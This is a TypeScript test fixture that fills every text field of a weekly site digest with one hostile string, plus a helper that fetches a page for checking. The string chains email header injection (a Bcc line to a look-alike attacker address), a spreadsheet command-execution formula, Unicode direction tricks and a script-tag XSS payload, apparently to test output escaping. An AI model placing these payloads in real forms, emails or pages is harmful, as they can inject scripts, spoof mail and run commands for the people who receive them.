import type { Digest } from "@sightline/domain/digests";

/** Names, keywords and titles of pages are other people's words. */
const hostile = (word: string) =>
  `<b>${word}</b>\r\nBcc: eve@evіl.example\u2028=cmd|' /C calc'!A0\u202e"><script>alert(1)</script>`;

const line = (word: string) => ({
  text: hostile(word),
  ...{ tone: "worse" as const, note: hostile(word), path: "/dashboard?SECRET" },
});

export const hostileDigest: Digest = {
  ...{ subject: hostile("POSITIONS"), preheader: hostile("ACTION"), late: null },
  ...{ from: "2026-11-09", to: "2026-11-15" },
  sites: [
    {
      ...{ name: hostile("Shop"), domain: "shop.example", finding: hostile("POSITIONS") },
      sections: [
        { id: "positions", lines: [line("POSITIONS")], source: hostile("POSITIONS") },
        { id: "audit", lines: [line("AUDIT")], source: hostile("AUDIT") },
      ],
    },
  ],
  actions: [
    {
      ...{ text: hostile("ACTION"), why: hostile("ACTION"), source: hostile("ACTION") },
      ...{ path: "/dashboard?SECRET", domain: "shop.example" },
    },
  ],
};

/** As served, without what is drawn by lot for each answer. */
export async function pageOf(url: string, form?: URLSearchParams) {
  const answer = await fetch(url, form === undefined ? {} : { method: "POST", body: form });
  const html = (await answer.text()).replaceAll(/nonce="[^"]*"/g, "");
  return { status: answer.status, html };
}
